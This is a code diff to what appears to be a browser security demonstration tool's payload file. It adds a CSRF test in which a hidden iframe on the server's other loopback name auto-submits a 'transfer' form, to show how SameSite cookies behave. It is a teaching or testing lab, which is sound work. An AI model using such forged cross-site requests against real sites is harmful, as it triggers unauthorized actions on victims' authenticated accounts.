@@ -148,7 +148,8 @@ if (window.app?.request) {
 attacker.report(await attacker.verdict());`;
 
 const csrf = `// Requests made by markup: no page code attaches anything. Whatever arrives authenticated was
-// sent automatically by the browser — exactly what a CSRF attack relies on.
+// sent automatically by the browser — exactly what a CSRF attack relies on. Same-site first,
+// then from another site (where SameSite=Lax keeps cookies off POSTs).
 const img = new Image();
 const loaded = new Promise((r) => { img.onload = img.onerror = r; });
 img.src = attacker.url('me', 'img');
@@ -171,6 +172,21 @@ await Promise.race([posted, attacker.wait(4000)]);
 attacker.log('<form method=POST action=' + attacker.api + 'transfer> submitted');
 form.remove();
 frame.remove();
+// The same form post from another site: this server under its other loopback name.
+const other = { '127.0.0.1': 'localhost', localhost: '127.0.0.1' }[location.hostname];
+if (other) {
+  const target = location.origin + attacker.url('transfer', 'cross-site');
+  const evil = location.protocol + '//' + other + ':' + location.port + '/evil/csrf?action=' + encodeURIComponent(target);
+  const cross = document.createElement('iframe');
+  cross.hidden = true;
+  let loads = 0;
+  const done = new Promise((r) => { cross.onload = () => { if (++loads >= 2) r(); }; });
+  cross.src = evil;
+  document.body.append(cross);
+  await Promise.race([done, attacker.wait(6000)]);
+  cross.remove();
+  attacker.log('a page on http://' + other + ':' + location.port + ' (another site) posted the same form');
+}
 attacker.report(await attacker.verdict());`;
 
 export const payloads: readonly Payload[] = [
